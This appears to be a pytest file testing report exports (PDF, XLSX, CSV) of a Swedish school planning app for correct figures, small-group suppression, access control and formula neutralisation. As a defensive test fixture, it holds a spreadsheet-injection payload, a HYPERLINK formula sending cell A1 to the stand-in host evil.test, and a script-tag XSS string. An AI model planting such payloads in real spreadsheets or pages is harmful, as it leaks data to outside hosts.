"""The reports as PDF, XLSX and CSV: every number in each file equals the report data (which
test_report_selectors ties to the raw answers) and a few are computed here from the raw answers
again; suppression holds in every format; names that look like formulas stay text; the files go
to those who may read the page, with its filters."""

import csv
import datetime
import io
import re

import openpyxl
import pytest
from django.urls import reverse
from django.utils import timezone, translation
from django.utils.dateformat import format as date_format

from digiplan.lib.spreadsheet import neutralise
from digiplan.lib.spreadsheet.writing import csv_cell as _csv_cell
from digiplan.organisations.access import managed_nodes
from digiplan.organisations.models import Organisation
from digiplan.reports import exports, selectors
from tests.pdf_helpers import _objects, flat, pdf_text
from tests.reports.report_helpers import (
    YEAR_1,
    YEAR_2,
    area_mean,
    build_unit_plan,
    build_years,
    column,
    expected,
)

FORMULA = '=HYPERLINK("http://evil.test/?x="&A1,"Klicka")'


@pytest.fixture
def years(world):
    return build_years(world)


def _unit(client, unit, fmt, **params):
    return client.get(reverse("report_export", args=[unit.pk, fmt]), params)


def _org(client, fmt, **params):
    return client.get(reverse("report_org_export", args=[fmt]), params)


def _swedish(value: float) -> str:
    return exports.display(value)


def _book(content: bytes):
    return openpyxl.load_workbook(io.BytesIO(content))


def _org_report(world, year=YEAR_2, **filters):
    units = selectors.report_units(managed_nodes(world.strategist), **filters)
    return selectors.org_report(units, year, world.huvudman)


def _same_cell(got, want) -> bool:
    """An XLSX cell against the table value: None (suppressed) is a dash, numbers are numbers
    of the same value, dates are dates, text is text (neutralised)."""
    if want is None:
        return got == "–"
    if want == "":
        return got in (None, "")
    if isinstance(want, bool):
        return got is want
    if isinstance(want, int | float):
        return isinstance(got, int | float) and not isinstance(got, bool) and got == pytest.approx(want)
    if isinstance(want, datetime.date):
        return got == datetime.datetime.combine(want, datetime.time())
    return got == neutralise(str(want))


def _assert_workbook_is_the_tables(book, tables):
    assert len(book.worksheets) == len(tables)
    for sheet, table in zip(book.worksheets, tables, strict=True):
        assert sheet.freeze_panes == "A2", sheet.title
        assert sheet.auto_filter.ref, sheet.title
        rows = list(sheet.iter_rows(values_only=True))
        assert list(rows[0]) == table.header
        assert len(rows) - 1 == len(table.rows), sheet.title
        for got, want in zip(rows[1:], table.rows, strict=True):
            for g, w in zip(got, want, strict=False):
                assert _same_cell(g, w), (sheet.title, got, want)
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula"


def _csv_tables(content: bytes) -> list[list[list[str]]]:
    assert content.startswith("\ufeff".encode())
    text = content.decode("utf-8-sig")
    blocks = [b for b in text.split("\r\n\r\n")]
    return [list(csv.reader(io.StringIO(b), delimiter=";")) for b in blocks]


def _assert_csv_is_the_tables(content, tables):
    blocks = _csv_tables(content)
    assert len(blocks) == len(tables)
    for block, table in zip(blocks, tables, strict=True):
        assert block[0] == [_csv_cell(table.title)]
        assert block[1] == [_csv_cell(h) for h in table.header]
        want = [
            [_csv_cell(c.isoformat() if isinstance(c, datetime.date) else c) for c in row]
            for row in table.rows
        ]
        assert block[2:] == want


def _assert_pdf_has_the_tables(text, tables):
    """Each row of each table, its cells in order as the PDF prints them. The answers per level
    are in the workbook only."""
    for table in tables:
        if table.ident == "levels":
            assert table.title not in text
            continue
        if table.ident == "areas":
            # Printed once, as the radar charts' data tables: every figure is there.
            for row in table.rows:
                for cell in row[2:]:
                    if isinstance(cell, int | float):
                        assert exports.display(cell) in text, (table.title, row)
            continue
        if table.ident == "indicators":
            # One table per group, the group in its caption, code and indicator heading the row.
            for row in table.rows:
                assert f"{table.title}: {row[2]}" in text, (table.title, row[2])
                cells = [
                    re.escape(exports.display(c))
                    for n, c in enumerate(row)
                    if n != 2 and exports.display(c) != ""
                ]
                assert re.search(r"\s+".join(cells), text), (table.title, row)
            continue
        assert table.title in text
        for row in table.rows:
            cells = [re.escape(exports.display(c)) for c in row if exports.display(c) != ""]
            assert re.search(r"\s+".join(cells), text), (table.title, row)


def _pdf_text(content: bytes) -> str:
    assert content.startswith(b"%PDF-")
    return flat(pdf_text(content))


# ---- The unit report ------------------------------------------------------------------------


def test_the_unit_pdf_is_tagged_swedish_with_cover_contents_page_numbers_and_every_figure(
    world, years, client_for
):
    build_unit_plan(world, years)
    response = _unit(client_for("leader_a"), world.unit_a, "pdf")
    assert response.status_code == 200 and response["Content-Type"] == "application/pdf"
    assert response["Content-Disposition"].endswith('-almskolan-2026-27.pdf"')
    catalog = next(head for head, _data in _objects(response.content).values() if b"/Type /Catalog" in head)
    assert b"/StructTreeRoot" in catalog and b"/Lang (sv)" in catalog, "tagged, in Swedish"
    text = _pdf_text(response.content)
    # The cover, in Swedish: the title, then huvudman, school year, unit and the day it was made;
    # the contents follow.
    with translation.override("sv"):
        made = date_format(timezone.localdate(), "j F Y")
    assert text.startswith(
        "Rapport för Almskolan, 2026/27 Huvudman Sjöviks kommun Läsår 2026/27 "
        f"Skolenhet Almskolan (11111111) Framtagen {made} Innehåll "
    ), text[:200]
    # Table of contents with page numbers (dot leaders, then the number), and page footers.
    assert re.search(r"\. \. \. (\d+)", text)
    assert re.search(r"\b2\b.{0,6}\b\d+\b", text)
    report = selectors.readable_unit_report(world.leader_a, world.unit_a, YEAR_2)
    tables = exports.unit_tables(report)
    _assert_pdf_has_the_tables(text, tables)
    # Computed here from the raw answers, not from the report.
    led = area_mean(years.y2_staff[world.unit_a], ("LED.P1",))
    komp = expected(column(years.y2_staff[world.unit_a], "KOMP.P1"))
    assert _swedish(led) in text and _swedish(komp["mean"]) in text
    # The charts of the page, each followed by its data table, and the plan.
    assert text.count("medelvärde per område") >= 2
    assert "Tryggare med verktygen" in text and "Workshop i lärplattformen" in text
    assert "Vi behöver mer tid." in text
    assert "<script>alert(1)</script>" not in text  # the leader's comment is not in reports


def test_the_unit_workbook_has_a_typed_sheet_per_table(world, years, client_for):
    plan = build_unit_plan(world, years)
    response = _unit(client_for("leader_a"), world.unit_a, "xlsx")
    assert response.status_code == 200
    assert response["Content-Disposition"].endswith('-almskolan-2026-27.xlsx"')
    book = _book(response.content)
    report = selectors.readable_unit_report(world.leader_a, world.unit_a, YEAR_2)
    tables = exports.unit_tables(report)
    _assert_workbook_is_the_tables(book, tables)
    # From the raw answers: the indicator rows hold n, "don't know" and the mean as numbers.
    indicators = book[tables[1].title[:31]]
    rows = {(r[0], r[2]): r for r in indicators.iter_rows(min_row=2, values_only=True)}
    with translation.override("sv"):
        staff = translation.gettext("Staff")
    for code in ("LED.P1", "KOMP.P1", "KOMP.P2"):
        want = expected(column(years.y2_staff[world.unit_a], code))
        row = rows[(code, staff)]
        assert (row[3], row[4]) == (want["n"], want["n_na"])
        assert row[5] == pytest.approx(want["mean"])
    # Dates are dates.
    activities = book.worksheets[-2]
    due = [r[3] for r in activities.iter_rows(min_row=2, values_only=True)]
    assert datetime.datetime.combine(plan.late.due_on, datetime.time()) in due


def test_the_unit_csv_is_swedish_excel_csv_with_the_same_tables(world, years, client_for):
    response = _unit(client_for("staff"), world.unit_a, "csv")
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    report = selectors.readable_unit_report(world.staff, world.unit_a, YEAR_2)
    _assert_csv_is_the_tables(response.content, exports.unit_tables(report))
    led = area_mean(years.y2_staff[world.unit_a], ("LED.P1",))
    assert f";{led:.2f}".replace(".", ",") in response.content.decode("utf-8-sig")


def test_the_year_is_chosen_as_on_the_page(world, years, client_for):
    response = _unit(client_for("leader_a"), world.unit_a, "xlsx", ar=YEAR_1)
    report = selectors.readable_unit_report(world.leader_a, world.unit_a, YEAR_1)
    _assert_workbook_is_the_tables(_book(response.content), exports.unit_tables(report))
    first = area_mean(years.y1_staff[world.unit_a], ("LED.P1",))
    cells = [c for row in _book(response.content).worksheets[0].iter_rows(values_only=True) for c in row]
    assert any(isinstance(c, float) and c == pytest.approx(first) for c in cells)
    # A year without a self-assessment still gives a file that says so.
    text = _pdf_text(_unit(client_for("leader_a"), world.unit_a, "pdf", ar="2019/20").content)
    assert "2019/20" in text


def test_a_unit_below_k_shows_no_figure_in_any_format(world, years, client_for):
    client = client_for("strategist")
    report = selectors.unit_report(years.small, YEAR_2)
    tables = exports.unit_tables(report)
    indicators = next(t for t in tables if t.ident == "indicators")
    answer_rows = [r for r in indicators.rows if r[0].endswith((".P1", ".P2"))]
    assert answer_rows and all(r[3] is None and r[5] is None for r in answer_rows)
    assert not next(t for t in tables if t.ident == "levels").rows
    book = _book(_unit(client, years.small, "xlsx").content)
    _assert_workbook_is_the_tables(book, tables)
    numbers = [
        c
        for sheet in book.worksheets[:2]
        for row in sheet.iter_rows(min_row=2)
        for c in row[3:6]
        if isinstance(c.value, int | float)
    ]
    # Only the organisation column may hold numbers for it, never its own n or mean.
    assert all(c.column > 6 for c in numbers if c.parent.title.startswith(indicators.title[:31]))
    text = _pdf_text(_unit(client, years.small, "pdf").content)
    _assert_pdf_has_the_tables(text, tables)
    csv_text = _unit(client, years.small, "csv").content.decode("utf-8-sig")
    # Its staff answered 1 to everything: a mean of 1,00 of its own would give them away.
    assert ";1,00;" not in csv_text and ";4;0;1,00" not in csv_text


def test_an_unknown_format_is_not_found(world, client_for):
    client = client_for("strategist")
    for fmt in ("docx", "PDF", "xls"):
        assert _unit(client, world.unit_a, fmt).status_code == 404
        assert _org(client, fmt).status_code == 404


@pytest.mark.parametrize(
    ("persona", "status"),
    [("strategist", 200), ("leader_a", 200), ("staff", 200), ("leader_b", 404), ("other_strategist", 404)],
)
def test_who_downloads_a_unit_report(world, client_for, persona, status):
    assert _unit(client_for(persona), world.unit_a, "csv").status_code == status


def test_a_draft_plan_is_left_out_for_who_may_not_read_it(world, years, client_for):
    from digiplan.plans import services as plan_services

    plan_services.plan_create(
        actor=world.leader_a, organisation=world.unit_a, school_year=YEAR_2, title="Utkast till plan"
    )
    assert "Utkast till plan" in _pdf_text(_unit(client_for("leader_a"), world.unit_a, "pdf").content)
    assert "Utkast till plan" not in _unit(client_for("staff"), world.unit_a, "csv").content.decode(
        "utf-8-sig"
    )


def test_a_report_for_no_reader_leaves_a_draft_plan_out(world, years):
    """The archive builder passes its requester, who may be gone (requested_by is then empty):
    with no reader, the unit's draft plan is left out, as for anyone who may not read it."""
    from digiplan.plans import services as plan_services

    plan_services.plan_create(
        actor=world.leader_a, organisation=world.unit_a, school_year=YEAR_2, title="Utkast till plan"
    )
    report = selectors.readable_unit_report(None, world.unit_a, YEAR_2)
    assert report["plan"] is None and "plan_draft" in report["missing"]


# ---- The organisation report ------------------------------------------------------------------


def test_the_organisation_files_hold_every_figure_of_the_report(world, years, client_for):
    build_unit_plan(world, years)
    client = client_for("strategist")
    tables = exports.org_tables(_org_report(world))
    _assert_workbook_is_the_tables(_book(_org(client, "xlsx").content), tables)
    _assert_csv_is_the_tables(_org(client, "csv").content, tables)
    response = _org(client, "pdf")
    assert response["Content-Disposition"].endswith('-sjoviks-kommun-2026-27.pdf"')
    text = _pdf_text(response.content)
    _assert_pdf_has_the_tables(text, tables)
    # The heat map, from the raw answers: every unit above k has its area means, the unit
    # below k none.
    heat = next(t for t in tables if t.ident == "heatmap")
    by_unit = {row[0]: row[1:] for row in heat.rows}
    for unit, answers in years.y2_staff.items():
        led = area_mean(answers, ("LED.P1",))
        if unit == years.small:
            assert by_unit[unit.name] == [None, None]
            assert led is None
        else:
            assert by_unit[unit.name][0] == pytest.approx(led)
            assert f"{unit.name} {_swedish(by_unit[unit.name][0])}" in text
    # Participation, from the raw answers.
    participation = next(t for t in tables if t.ident == "participation")
    answered = {row[0]: row[2] for row in participation.rows}
    assert answered["Almskolan"] == len(years.y2_staff[world.unit_a])
    assert "Utveckling per område" in text  # the trends section


def test_the_organisation_files_follow_the_filters(world, years, client_for):
    client = client_for("strategist")
    book = _book(_org(client, "xlsx", nod=years.soder.pk).content)
    names = [row[0] for row in book.worksheets[0].iter_rows(min_row=2, values_only=True)]
    assert "Skola Två" in names and "Björkskolan" not in names
    text = _pdf_text(_org(client, "pdf", skolform="FS").content)
    assert "Lilla skolan" in text and "Skola Två" not in text


@pytest.mark.parametrize(
    ("persona", "status"), [("strategist", 200), ("leader_a", 403), ("staff", 403), ("other_strategist", 200)]
)
def test_only_strategists_download_the_organisation_report(world, client_for, persona, status):
    response = _org(client_for(persona), "xlsx")
    assert response.status_code == status
    if persona == "other_strategist":
        assert world.unit_a.name.encode() not in response.content


def test_names_that_look_like_formulas_stay_text(world, years, client_for):
    Organisation.objects.filter(pk=world.unit_a.pk).update(name=FORMULA)
    client = client_for("strategist")
    for sheet in _book(_org(client, "xlsx").content).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f"
                if isinstance(cell.value, str) and "HYPERLINK" in cell.value:
                    assert cell.value.startswith("'") or not cell.value.startswith("=")
    assert f"'{FORMULA}" in [c.value for c in _book(_org(client, "xlsx").content).worksheets[0]["A"]]
    csv_text = _org(client, "csv").content.decode("utf-8-sig")
    assert "\r\n=HYPERLINK" not in csv_text and "'=HYPERLINK" in csv_text
    text = _pdf_text(_unit(client, world.unit_a, "pdf").content)
    assert "=HYPERLINK(" in text  # a PDF is no spreadsheet: the name as it is


# ---- Every answer, streamed -----------------------------------------------------------------


def _answers(client, **params):
    response = client.get(reverse("report_answers_export"), params)
    if response.status_code != 200:
        return response, None
    return response, _book(b"".join(response.streaming_content))


def test_every_answer_of_the_shown_figures_and_nothing_else(world, years, client_for):
    response, book = _answers(client_for("strategist"))
    assert response["Content-Disposition"].startswith("attachment")
    sheet = book.worksheets[0]
    assert sheet.freeze_panes == "A2"
    rows = list(sheet.iter_rows(min_row=2, values_only=True))
    assert all(len(r) == 4 for r in rows), "unit, group, code, value: no person, no response"
    # From the raw answers: each unit above k, each indicator with at least k counting answers.
    want = []
    for unit, answers in years.y2_staff.items():
        if len(answers) < 5:
            continue
        for code in ("LED.P1", "KOMP.P1", "KOMP.P2"):
            values = column(answers, code)
            if expected(values):
                want += [(unit.name, "staff", code, v) for v in values]
    for unit, answers in years.y2_pupils.items():
        values = column(answers, "KOMP.E1")
        if len(answers) >= 5 and expected(values):
            want += [(unit.name, "pupil", "KOMP.E1", v) for v in values]
    with translation.override("sv"):
        labels = {
            "staff": translation.gettext("Staff"),
            "pupil": translation.gettext("Pupils"),
            "na": translation.gettext("Don't know"),
        }
    assert len(rows) == len(want)
    assert sorted(rows, key=str) == sorted(
        [(u, labels[g], c, labels["na"] if v == "na" else v) for u, g, c, v in want], key=str
    )
    assert "Lilla skolan" not in {r[0] for r in rows}
    # Sorted by unit, group, indicator and value: nothing of the order the answers came in.
    assert rows == sorted(rows, key=lambda r: (r[0], r[1], r[2], (isinstance(r[3], str), r[3])))
    assert all(isinstance(r[3], int) or r[3] == labels["na"] for r in rows)


def test_the_answers_file_is_for_strategists_and_needs_a_closed_year(world, years, client_for):
    for persona in ("leader_a", "staff"):
        assert _answers(client_for(persona))[0].status_code == 403
    assert _answers(client_for("strategist"), ar="2019/20")[0].status_code == 404
    response, book = _answers(client_for("strategist"), nod=years.soder.pk)
    assert {r[0] for r in book.worksheets[0].iter_rows(min_row=2, values_only=True)} == {"Skola Två"}
